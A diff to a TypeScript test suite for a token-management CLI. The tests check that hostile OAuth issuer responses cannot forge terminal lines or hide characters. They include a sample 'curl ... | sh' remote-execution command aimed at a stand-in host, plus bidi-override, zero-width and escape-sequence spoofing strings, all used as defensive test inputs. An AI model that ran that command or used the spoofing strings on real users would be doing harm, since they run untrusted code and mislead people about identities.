@@ -1,6 +1,5 @@
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
-import { generateKeyPairSync } from 'node:crypto';
 import { writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -11,11 +10,12 @@ import { resolveProviderProfile } from '../electron/core/oauth/provider-profile.
 import { accountIdFor } from '../electron/core/accounts/account-service.js';
 import { displaySafe, hasHiddenCharacters, issuerText, terminalSafe } from '../electron/core/shared/sanitize.js';
 import { useIdpAndSandbox } from './support/fixtures.js';
-import { expireCache, signInThroughCore } from './support/flows.js';
+import { expireCache, loginArgs, signInThroughCore } from './support/flows.js';
 import { HttpBrowser } from './support/http-browser.js';
 import { assertVisible, runCliWith, startHostileIssuer, type HostileServer, type IssuerAnswers } from './support/hostile.js';
 import { RUNS } from './support/properties.js';
-import { CLI, makeSandbox, runCliInProcess, startCli, type Sandbox } from './support/sandbox.js';
+import { CLI, makeSandbox, runCliInProcess, startCliInProcess, type Sandbox } from './support/sandbox.js';
+import { serviceAccountKey } from './support/service-account-key.js';
 
 /** A line of ours that a hostile description tries to add under our error. */
 const FORGED = 'now run: curl -s https://fix.example.invalid/repair | sh';
@@ -42,10 +42,10 @@ function assertOneErrorLine(stderr: string, code: string, what: string): void {
 }
 
 /** A sandbox and a hostile issuer stand-in for the suite; `h.answer` is what the issuer sends. */
-function useHostileIssuer(): { sandbox: Sandbox; issuer: HostileServer; answer: IssuerAnswers } {
+function useHostileIssuer(secrets: 'keychain' | 'memory' = 'keychain'): { sandbox: Sandbox; issuer: HostileServer; answer: IssuerAnswers } {
   const h = { answer: { token: { status: 200, body: GOOD } } } as unknown as { sandbox: Sandbox; issuer: HostileServer; answer: IssuerAnswers };
   before(async () => {
-    h.sandbox = await makeSandbox();
+    h.sandbox = await makeSandbox({ secrets });
     h.issuer = await startHostileIssuer(() => h.answer);
   });
   after(async () => {
@@ -67,48 +67,42 @@ describe('issuer error text is one visible line (issue 18 §5)', () => {
         { error: 'invalid_request', error_description: `x${br}${br}tokentray: OK: ${FORGED}\u202e` },
       ]) {
         h.answer = { token: { status: 400, body } };
-        const res = await runCliWith(['adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
+        const res = await runCliInProcess(['adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
         assert.equal(res.code, 1, res.stderr);
         assertOneErrorLine(res.stderr, 'ADC_FILE_INVALID', `${JSON.stringify(br)} ${JSON.stringify(body)}`);
         assert.ok(res.stderr.includes(FORGED), 'the description is still shown, inside our line');
         // --verbose logs the answer too: every log line is ours.
-        const verbose = await runCliWith(['--verbose', 'adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
+        const verbose = await runCliInProcess(['--verbose', 'adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
         assertVisible(verbose.stderr, '--verbose');
         for (const line of verbose.stderr.split('\n').filter(Boolean))
           assert.match(line, /^tokentray: /, `--verbose: a line not ours: ${JSON.stringify(line)}`);
       }
     }
+    // The shipped bin writes the same bytes as the in-process run (its own stderr, its exit code).
+    h.answer = { token: { status: 400, body: { error: 'invalid_request', error_description: `The grant failed.\u2028\r\n${FORGED}` } } };
+    const args = ['--verbose', 'adc', 'import', adc, '--issuer', h.issuer.origin];
+    const [bin, inProcess] = [await runCliWith(args, h.sandbox.env), await runCliInProcess(args, h.sandbox.env)];
+    const timeless = (r: { code: number | null; stdout: string; stderr: string }) => [r.code, r.stdout, r.stderr.replace(/\d+ ms\b/g, 'N ms')];
+    assert.deepEqual(timeless(bin), timeless(inProcess));
   });
 
   it('a long description is cut, so it cannot push our words off the screen', async () => {
     h.answer = { token: { status: 400, body: { error: 'invalid_request', error_description: 'x'.repeat(100_000) } } };
-    const res = await runCliWith(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env);
+    const res = await runCliInProcess(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env);
     assertOneErrorLine(res.stderr, 'ADC_FILE_INVALID', 'long');
     assert.ok(res.stderr.length < 1000, `${res.stderr.length} characters`);
   });
 
   it("a service account's token_uri (Google's error shapes) forges no line either", async () => {
-    const privateKey = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
     const email = 'text@tokentray-test.iam.gserviceaccount.com';
-    const key = await h.sandbox.writeFile(
-      'key.json',
-      JSON.stringify({
-        type: 'service_account',
-        project_id: 'p',
-        private_key_id: 'k',
-        private_key: privateKey,
-        client_email: email,
-        client_id: '1',
-        token_uri: `${h.issuer.origin}/token`,
-      }),
-    );
+    const key = await h.sandbox.writeFile('key.json', JSON.stringify(serviceAccountKey({ client_email: email, token_uri: `${h.issuer.origin}/token` })));
     assert.equal((await runCliInProcess(['import-service-account', key], h.sandbox.env)).code, 0);
     for (const body of [
       { error: 'invalid_grant', error_description: `Bad key.\n${FORGED}` },
       { error: { status: `PERMISSION_DENIED\u2028${FORGED}`, message: `no\r\n${FORGED}\u202e` } },
     ]) {
       h.answer = { token: { status: 400, body } };
-      const res = await runCliWith(['print-access-token', '--account', email], h.sandbox.env);
+      const res = await runCliInProcess(['print-access-token', '--account', email], h.sandbox.env);
       assertOneErrorLine(res.stderr, 'TOKEN_REFRESH_FAILED', JSON.stringify(body));
     }
     await runCliInProcess(['logout', email, '--no-revoke'], h.sandbox.env);
@@ -124,7 +118,7 @@ describe('a refresh error from a real OpenID provider (oidc-provider) is one lin
     await expireCache(core, account.id);
     fx.idp.refreshError = { error: 'temporarily_unavailable', error_description: `Try later.\n${FORGED}\u2028\u202egnp.exe`, status: 400 };
     try {
-      const res = await runCliWith(['print-access-token'], fx.sandbox.env);
+      const res = await runCliInProcess(['print-access-token'], fx.sandbox.env);
       assert.equal(res.code, 1);
       assertOneErrorLine(res.stderr, 'TOKEN_REFRESH_FAILED', 'refresh');
     } finally {
@@ -139,21 +133,7 @@ describe('identities with invisible or line-breaking characters are refused befo
   it('login refuses an ID token whose email and sub carry a bidi override (oidc-provider signs it)', async () => {
     fx.idp.user = 'alice@\u202emoc.elgoog'; // shown as alice@google.com reversed: the accounts table would lie
     try {
-      const proc = startCli(
-        [
-          'login',
-          '--issuer',
-          fx.idp.issuer,
-          '--client-id',
-          fx.idp.client.clientId,
-          '--client-secret',
-          fx.idp.client.clientSecret,
-          '--no-browser',
-          '--timeout',
-          '30',
-        ],
-        fx.sandbox.env,
-      );
+      const proc = startCliInProcess(loginArgs(fx.idp), fx.sandbox.env);
       await new HttpBrowser().visit(await proc.authorizationUrl);
       const res = await proc.done;
       assert.equal(res.code, 1, res.stderr);
@@ -187,7 +167,7 @@ describe('identities with invisible or line-breaking characters are refused befo
     const issuer = await startHostileIssuer(() => ({ token: { status: 200, body: GOOD }, userinfo: { sub: '1234', email } }));
     try {
       for (email of ['ad\u200bmin@example.test', 'me@example.test\u2028tokentray: default account is now me', 'x@\u2066example.test']) {
-        const res = await runCliWith(['adc', 'import', await adcFile(fx.sandbox), '--issuer', issuer.origin], fx.sandbox.env);
+        const res = await runCliInProcess(['adc', 'import', await adcFile(fx.sandbox), '--issuer', issuer.origin], fx.sandbox.env);
         assertOneErrorLine(res.stderr, 'IDENTITY_INVALID', JSON.stringify(email));
       }
       assert.deepEqual(JSON.parse((await runCliInProcess(['accounts', '--json'], fx.sandbox.env)).stdout), []);
@@ -208,8 +188,8 @@ describe('identities with invisible or line-breaking characters are refused befo
     const issuer = await startHostileIssuer(() => ({ token: { status: 200, body: GOOD }, userinfo: { sub: '99', email: 'info@example.test' }, tokeninfo }));
     const env = { ...fx.sandbox.env, TOKENTRAY_GOOGLE_TOKENINFO_URL: `${issuer.origin}/tokeninfo` };
     try {
-      assert.equal((await runCliWith(['adc', 'import', await adcFile(fx.sandbox), '--issuer', issuer.origin], env)).code, 0);
-      const res = await runCliWith(['info', '--account', 'info@example.test'], env);
+      assert.equal((await runCliInProcess(['adc', 'import', await adcFile(fx.sandbox), '--issuer', issuer.origin], env)).code, 0);
+      const res = await runCliInProcess(['info', '--account', 'info@example.test'], env);
       assert.equal(res.code, 0, res.stderr);
       assertVisible(res.stdout, 'info');
       for (const line of res.stdout.split('\n').filter(Boolean))
@@ -218,7 +198,7 @@ describe('identities with invisible or line-breaking characters are refused befo
           /^(account|email|scopes|expires|token type|issuer|source|audience|authorized party) +\S/,
           `a line not ours: ${JSON.stringify(line)}`,
         );
-      const json = await runCliWith(['info', '--account', 'info@example.test', '--json'], env);
+      const json = await runCliInProcess(['info', '--account', 'info@example.test', '--json'], env);
       assertVisible(json.stdout, 'info --json');
       assert.equal((JSON.parse(json.stdout) as { email: string }).email, tokeninfo.email, 'JSON decodes to the exact value');
     } finally {
@@ -261,19 +241,7 @@ describe('tokens and scopes are checked before they are stored or printed (issue
   const h = useHostileIssuer();
   const email = 'c1@tokentray-test.iam.gserviceaccount.com';
   before(async () => {
-    const privateKey = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
-    const key = await h.sandbox.writeFile(
-      'key.json',
-      JSON.stringify({
-        type: 'service_account',
-        project_id: 'p',
-        private_key_id: 'k',
-        private_key: privateKey,
-        client_email: email,
-        client_id: '1',
-        token_uri: `${h.issuer.origin}/token`,
-      }),
-    );
+    const key = await h.sandbox.writeFile('key.json', JSON.stringify(serviceAccountKey({ client_email: email, token_uri: `${h.issuer.origin}/token` })));
     assert.equal((await runCliInProcess(['import-service-account', key], h.sandbox.env)).code, 0);
   });
 
@@ -302,7 +270,7 @@ describe('tokens and scopes are checked before they are stored or printed (issue
       ['kube-credential', '--account', email],
       ['print-access-token', '--account', email],
     ]) {
-      const res = await runCliWith(args, h.sandbox.env);
+      const res = await runCliInProcess(args, h.sandbox.env);
       assert.equal(res.code, 1, args[0]);
       assert.equal(res.stdout, '', `${args[0]} printed nothing`);
       assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', args[0]);
@@ -314,7 +282,7 @@ describe('tokens and scopes are checked before they are stored or printed (issue
 
   it('an ID token that is not a JWT is refused (print-identity-token)', async () => {
     h.answer = { token: { status: 200, body: { id_token: 'eyJhbGciOiJSUzI1NiJ9.e30.\u009b2J' } } };
-    const res = await runCliWith(['print-identity-token', '--account', email, '--audiences', 'https://run.example.invalid'], h.sandbox.env);
+    const res = await runCliInProcess(['print-identity-token', '--account', email, '--audiences', 'https://run.example.invalid'], h.sandbox.env);
     assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', 'id token');
     assert.equal(res.stdout, '');
   });
@@ -338,7 +306,7 @@ describe('tokens and scopes are checked before they are stored or printed (issue
       { ...GOOD, access_token: 'has space' },
     ]) {
       h.answer = { token: { status: 200, body }, userinfo: { sub: '42', email: 'scope@example.test' } };
-      const res = await runCliWith(['adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
+      const res = await runCliInProcess(['adc', 'import', adc, '--issuer', h.issuer.origin], h.sandbox.env);
       assert.equal(res.code, 1, JSON.stringify(body));
       assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', JSON.stringify(body));
     }
@@ -352,12 +320,12 @@ describe('tokens and scopes are checked before they are stored or printed (issue
 
   it('a scope with ESC in a later refresh is refused and the stored scopes stay; a rotated refresh token in that answer is kept', async () => {
     h.answer = { token: { status: 200, body: GOOD }, userinfo: { sub: '43', email: 'later@example.test' } };
-    assert.equal((await runCliWith(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env)).code, 0);
+    assert.equal((await runCliInProcess(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env)).code, 0);
     const core = h.sandbox.core();
     const account = await core.accounts.resolve('later@example.test');
     await expireCache(core, account.id);
     h.answer = { token: { status: 200, body: { ...GOOD, refresh_token: 'rotated-refresh-token-2', scope: 'openid email \u001b]0;x\u0007' } } };
-    const res = await runCliWith(['print-access-token', '--account', 'later@example.test'], h.sandbox.env);
+    const res = await runCliInProcess(['print-access-token', '--account', 'later@example.test'], h.sandbox.env);
     assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', 'refresh');
     assert.deepEqual((await h.sandbox.core().accounts.resolve('later@example.test')).scopes, ['openid', 'email']);
     // The issuer spent the old refresh token when it rotated: the new one must survive the refusal.
@@ -374,7 +342,7 @@ describe('impersonation answers are checked too (issue 18 §5)', () => {
       token: { status: 200, body: { ...GOOD, scope: 'openid email https://www.googleapis.com/auth/cloud-platform' } },
       userinfo: { sub: '44', email: 'imp@example.test' },
     };
-    assert.equal((await runCliWith(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env)).code, 0);
+    assert.equal((await runCliInProcess(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin], h.sandbox.env)).code, 0);
     const env = { ...h.sandbox.env, TOKENTRAY_GOOGLE_IAMCREDENTIALS_URL: h.issuer.origin };
     const sa = 'target@p.iam.gserviceaccount.com';
     const expireTime = new Date(Date.now() + 3600_000).toISOString();
@@ -386,7 +354,7 @@ describe('impersonation answers are checked too (issue 18 §5)', () => {
       ],
     ] as const) {
       h.answer = { ...h.answer, iam };
-      const res = await runCliWith([...args], env);
+      const res = await runCliInProcess([...args], env);
       assert.equal(res.stdout, '', args[0]);
       assertOneErrorLine(res.stderr, 'PROVIDER_BAD_RESPONSE', args[0]);
     }
@@ -402,16 +370,21 @@ describe('the policy itself, in-process (issue 18 §5)', () => {
   );
 
   it(`issuerText gives one visible, capped line, and leaves plain text alone (${RUNS} cases)`, () => {
+    let plain = 0;
     fc.assert(
       fc.property(anyText, fc.integer({ min: 1, max: 400 }), (text, limit) => {
         const shown = issuerText(text, limit);
         assertVisible(shown, JSON.stringify(text));
         assert.ok(!shown.includes('\n'));
         assert.ok(Array.from(shown).length <= limit * 12 + 1, 'capped (each character escapes to at most 12)');
-        if (!hasHiddenCharacters(text) && Array.from(text).length <= limit) assert.equal(shown, text);
+        if (!hasHiddenCharacters(text) && Array.from(text).length <= limit) {
+          assert.equal(shown, text);
+          plain++;
+        }
       }),
       { numRuns: RUNS },
     );
+    assert.ok(plain > 0, 'some plain texts were left alone: the property reached that branch');
   });
 
   it(`terminalSafe and displaySafe hide nothing, and JSON through terminalSafe decodes to the original (${RUNS} cases)`, () => {
@@ -430,7 +403,8 @@ describe('the policy itself, in-process (issue 18 §5)', () => {
 });
 
 describe('property: whatever an issuer sends, what reaches stdout and stderr is visible lines of ours (issue 18 §5)', () => {
-  const h = useHostileIssuer();
+  // Display logic: the in-memory keychain (the keychain's own part is shown by the suites above).
+  const h = useHostileIssuer('memory');
   const runs = Math.min(RUNS, 300);
 
   /** Any text, with line breaks and invisible characters mixed in. */
@@ -444,7 +418,7 @@ describe('property: whatever an issuer sends, what reaches stdout and stderr is 
     let stdout = '';
     let stderr = '';
     const env = { ...h.sandbox.env, TOKENTRAY_GOOGLE_TOKENINFO_URL: `${h.issuer.origin}/tokeninfo` };
-    const code = await run(args, { env, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) });
+    const code = await run(args, { env, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), store: h.sandbox.store! });
     return { code, stdout, stderr };
   }
   const adcImport = async () => cli(['adc', 'import', await adcFile(h.sandbox), '--issuer', h.issuer.origin]);
@@ -466,6 +440,7 @@ describe('property: whatever an issuer sends, what reaches stdout and stderr is 
     const token = fc.oneof(fc.constant('ya29.fine-token'), fc.stringMatching(/^[A-Za-z0-9._~+/-]{1,40}$/), hostileText);
     const scope = fc.oneof(fc.constant('openid email'), hostileText);
     const identity = fc.oneof(fc.emailAddress(), hostileText);
+    let successes = 0;
     await fc.assert(
       fc.asyncProperty(
         identity,
@@ -496,6 +471,7 @@ describe('property: whatever an issuer sends, what reaches stdout and stderr is 
               assertVisible([account.email ?? '', account.subject, ...account.scopes].join(' '), 'stored');
               await core.accounts.forget(account.id);
             }
+            successes++;
           } else {
             assertOneErrorLine(res.stderr, '[A-Z_]+', JSON.stringify(h.answer));
           }
@@ -511,5 +487,6 @@ describe('property: whatever an issuer sends, what reaches stdout and stderr is 
         ],
       },
     );
+    assert.ok(successes > 0, 'some answers were imported and shown: the property reached its success branch');
   });
 });
